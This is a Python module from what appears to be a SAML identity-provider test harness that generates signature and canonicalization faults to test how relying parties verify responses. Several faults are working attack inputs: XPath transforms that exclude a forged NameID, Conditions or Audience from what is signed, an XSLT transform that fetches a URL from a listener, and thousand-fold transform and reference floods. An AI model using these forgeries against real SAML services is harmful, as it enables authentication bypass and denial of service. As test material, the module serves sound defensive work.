"""Faults of canonicalization and transforms: what is done to the content before it is hashed."""

from __future__ import annotations

from collections.abc import Callable

from fake_idp.faults.forge import forgery_of
from fake_idp.faults.registry import on, register
from fake_idp.faults.signature_references import listener
from fake_idp.faults.signing import (
    Recipe,
    any_signature,
    assertion_signature,
    drop_outer_signature,
    exclusive,
    inclusive,
    make_signature,
    own_signature,
    sign_all_anew,
    sign_anew,
    signed_elements,
)
from fake_idp.saml.names import C14N_EXCLUSIVE, C14N_EXCLUSIVE_WITH_COMMENTS, NS_DS, NS_EC, NS_SAML2
from fake_idp.saml.nodes import Comment, Element, Text
from fake_idp.saml.pipeline import FaultContext
from fake_idp.saml.signature import remove_signature
from fake_idp.saml.xml import canonical

CORE = "SAML Core 5.4.4, lines 2942-2950"
C14N = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
C14N_11 = "http://www.w3.org/2006/12/xml-c14n11"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XPATH_FILTER2 = "http://www.w3.org/2002/06/xmldsig-filter2"
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
NS_XSL = "http://www.w3.org/1999/XSL/Transform"
MANY = 1000


def _c14n_transform(info: Element) -> Element:
    return next(t for t in info.find_all("ds:Transform") if t.get("Algorithm") == C14N_EXCLUSIVE)


def _use(uri: str) -> Callable[[Element], None]:
    """Name another canonicalization, for the content and for SignedInfo."""

    def edit(info: Element) -> None:
        transform = _c14n_transform(info)
        transform.set("Algorithm", uri)
        transform.children = []
        info.one("ds:CanonicalizationMethod").set("Algorithm", uri)

    return edit


def _with_comments(element: Element, root: Element) -> bytes:
    return canonical(element, root=root, comments=True)


_CANONICALIZATIONS = {
    "c14n-inclusive": ("inclusive C14N 1.0", C14N, inclusive),
    "c14n-inclusive-11": ("inclusive C14N 1.1", C14N_11, inclusive),
    "c14n-with-comments": ("exclusive C14N with comments", C14N_EXCLUSIVE_WITH_COMMENTS, _with_comments),
}


def _canonicalization(
    fault_id: str, phrase: str, uri: str, method: Callable[[Element, Element], bytes]
) -> None:
    recipe = Recipe(content=method, info=method, edit=_use(uri))
    register(
        fault_id,
        f"Canonicalized by {phrase}; the signature is right.",
        "signed",
        lambda response, context: sign_all_anew(response, context, recipe),
        "sig-c14n-other",
        source="SAML Core 5.4.3, lines 2937-2940",
        applies=any_signature,
    )


for _id, (_phrase, _uri, _method) in _CANONICALIZATIONS.items():
    _canonicalization(_id, _phrase, _uri, _method)


@on("signed", "sig-c14n-other", "xml-comment-in-value", source="SAML Core 5.4.3", applies=any_signature)
def c14n_with_comments_in_name_id(response: Element, context: FaultContext) -> None:
    """Canonicalized with comments, and there is one in the middle of the NameID; the signature is right."""
    name_id = response.one("saml2:NameID")
    half = len(name_id.text) // 2
    name_id.children = [Text(name_id.text[:half]), Comment(""), Text(name_id.text[half:])]
    uri = C14N_EXCLUSIVE_WITH_COMMENTS
    sign_all_anew(response, context, Recipe(content=_with_comments, info=_with_comments, edit=_use(uri)))


def _prefix_list(prefixes: str) -> Callable[[Element], None]:
    def edit(info: Element) -> None:
        transform = _c14n_transform(info)
        transform.children = (
            [Element("ec:InclusiveNamespaces", {"PrefixList": prefixes, "xmlns:ec": NS_EC})]
            if prefixes
            else []
        )

    return edit


@on(
    "signed",
    "sig-c14n-prefix-list",
    source="SAML Core 5.4.3; Exclusive XML Canonicalization",
    applies=any_signature,
)
def c14n_prefix_list(response: Element, context: FaultContext) -> None:
    """Exclusive C14N with the PrefixList "xs saml2"."""
    recipe = Recipe(
        content=lambda element, root: canonical(element, ("xs", "saml2"), root=root),
        edit=_prefix_list("xs saml2"),
    )
    sign_all_anew(response, context, recipe)


@on(
    "signed",
    "sig-c14n-prefix-list",
    source="SAML Core 5.4.3; Exclusive XML Canonicalization",
    applies=any_signature,
)
def c14n_no_prefix_list(response: Element, context: FaultContext) -> None:
    """Exclusive C14N without InclusiveNamespaces."""
    recipe = Recipe(content=lambda element, root: canonical(element, root=root), edit=_prefix_list(""))
    sign_all_anew(response, context, recipe)


def _add_transform(algorithm: str, *content: Element, first: bool = False) -> Callable[[Element], None]:
    def edit(info: Element) -> None:
        transforms = info.one("ds:Transforms")
        added = Element("ds:Transform", {"Algorithm": algorithm}, content)
        transforms.children.insert(0 if first else len(transforms.children), added)

    return edit


def _extra(fault_id: str, title: str, requirement: str, algorithm: str) -> None:
    register(
        fault_id,
        title,
        "signed",
        lambda response, context: sign_all_anew(response, context, Recipe(edit=_add_transform(algorithm))),
        requirement,
        source=CORE,
        applies=any_signature,
    )


_extra("transform-base64", "There is a base64 transform besides.", "sig-transform-unknown", f"{NS_DS}base64")
_extra(
    "transform-decryption",
    "There is a decryption transform besides.",
    "sig-transform-unknown",
    "http://www.w3.org/2002/07/decrypt#XML",
)
_extra(
    "transform-unknown",
    "There is a transform besides that nobody defined.",
    "sig-transform-unknown",
    "urn:okta-harness:transform:unknown",
)


@on("signed", "sig-transform-xslt", source=f"{CORE}; XML Signature Best Practices", applies=any_signature)
def transform_xslt(response: Element, context: FaultContext) -> None:
    """There is an XSLT transform that loads a document from a URL."""
    load = Element("xsl:copy-of", {"select": f"document('{listener(context, 'transform-xslt')}')"})
    template = Element("xsl:template", {"match": "/"}, [load])
    stylesheet = Element("xsl:stylesheet", {"version": "1.0", "xmlns:xsl": NS_XSL}, [template])
    sign_all_anew(response, context, Recipe(edit=_add_transform(XSLT, stylesheet, first=True)))


def _without(path: str) -> Callable[[Element, Element], bytes]:
    """The canonical form of an element from which the named parts have been cut out."""

    def content(element: Element, root: Element) -> bytes:
        copy = root.copy()
        at = list(root.walk()).index(element)
        copied = list(copy.walk())[at]
        for part in copied.find_all(path):
            copied.remove(part)
        return exclusive(copied, copy)

    return content


def _xpath_excluding(name: str) -> Element:
    expression = f"not(ancestor-or-self::{name})"
    return Element("ds:XPath", {"xmlns:saml2": NS_SAML2}, [expression])


def _filter2_excluding(name: str) -> Element:
    declared = {"Filter": "subtract", "xmlns:dsig2": XPATH_FILTER2, "xmlns:saml2": NS_SAML2}
    return Element("dsig2:XPath", declared, [f"//{name}"])


def _excluding(
    fault_id: str, what: str, name: str, algorithm: str, filter_: Callable[[str], Element]
) -> None:
    def apply(response: Element, context: FaultContext) -> None:
        target = drop_outer_signature(response)
        recipe = Recipe(content=_without(name), edit=_add_transform(algorithm, filter_(name), first=True))
        sign_anew(target, response, context, recipe)
        if name == "saml2:NameID":
            response.one(name).text = forgery_of(response, context).identity

    register(
        fault_id,
        f"A transform takes {what} out of what is signed; the rest verifies.",
        "signed",
        apply,
        "sig-transform-excludes-content",
        source=CORE,
        applies=any_signature,
    )


_excluding("transform-xpath-excludes-name-id", "the (forged) NameID", "saml2:NameID", XPATH, _xpath_excluding)
_excluding(
    "transform-xpath-filter2-excludes-name-id",
    "the (forged) NameID, by XPath Filter 2,",
    "saml2:NameID",
    XPATH_FILTER2,
    _filter2_excluding,
)
_excluding(
    "transform-xpath-excludes-conditions", "the Conditions", "saml2:Conditions", XPATH, _xpath_excluding
)
_excluding("transform-xpath-excludes-audience", "the Audience", "saml2:Audience", XPATH, _xpath_excluding)


def _without_enveloped(info: Element) -> None:
    transforms = info.one("ds:Transforms")
    transforms.remove(transforms.elements[0])


@on("signed", "sig-transform-enveloped-missing", source="SAML Core 5.4.1, 5.4.4", applies=assertion_signature)
def transform_enveloped_missing(response: Element, context: FaultContext) -> None:
    """The assertion's signature is detached: it is valid, but stands in the Response and is not enveloped."""
    assertion = drop_outer_signature(response)
    remove_signature(assertion)
    signature = make_signature(assertion, response, context, Recipe(edit=_without_enveloped))
    response.insert_before(response.one("saml2p:Status"), signature)


@on(
    "signed",
    "sig-transform-flood",
    source="XML Signature Best Practices",
    applies=any_signature,
    consent=True,
)
def transform_flood(response: Element, context: FaultContext) -> None:
    """The Reference has a thousand canonicalizations."""

    def edit(info: Element) -> None:
        for _ in range(MANY):
            info.one("ds:Transforms").append(Element("ds:Transform", {"Algorithm": C14N_EXCLUSIVE}))

    _innermost_anew(response, context, Recipe(edit=edit))


@on(
    "signed",
    "sig-transform-flood",
    source="XML Signature Best Practices",
    applies=any_signature,
    consent=True,
)
def reference_flood(response: Element, context: FaultContext) -> None:
    """SignedInfo has a thousand References to the same element."""

    def edit(info: Element) -> None:
        reference = info.one("ds:Reference")
        info.children += [reference.copy() for _ in range(MANY)]

    _innermost_anew(response, context, Recipe(edit=edit))


def _innermost_anew(response: Element, context: FaultContext, recipe: Recipe) -> None:
    target = signed_elements(response)[0]
    sign_anew(target, response, context, recipe)
    if target is not response and own_signature(response):
        context.resign(response)
